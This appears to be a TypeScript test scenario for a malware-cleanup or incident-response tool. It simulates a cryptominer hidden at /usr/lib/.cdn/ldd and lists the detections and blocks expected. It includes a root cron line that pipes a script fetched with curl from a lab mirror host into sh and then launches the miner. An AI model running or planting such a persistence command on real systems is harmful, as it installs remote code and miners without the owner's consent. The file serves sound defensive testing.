import { world } from '../../../lab/addresses.ts';
import { scenario } from '../scenario.ts';
import { addCron } from '../words.ts';

const miner = '/usr/lib/.cdn/ldd';
const url = `http://${world.mirror}/pub/x.sh`;
const line = `*/5 * * * * curl -fsSL ${url} | sh; /usr/lib/.cdn/ldd`;

export default scenario({
  what: 'a loader that lies at an address others use',
  report:
    'A CDN’s address serves the attacker, and on another port the company’s own downloads: it is offered, and not ticked.',
  plant: {
    images: [miner],
    start: `${addCron('root', [line])}\nrun ${miner}`,
    runs: [miner],
  },
  expect: {
    verdict: 'confirmed',
    ticked: { processes: [miner], files: [miner], starters: [line] },
    unticked: [world.mirror],
    blocks: [world.pool],
    resolution: 'cleaned',
  },
});
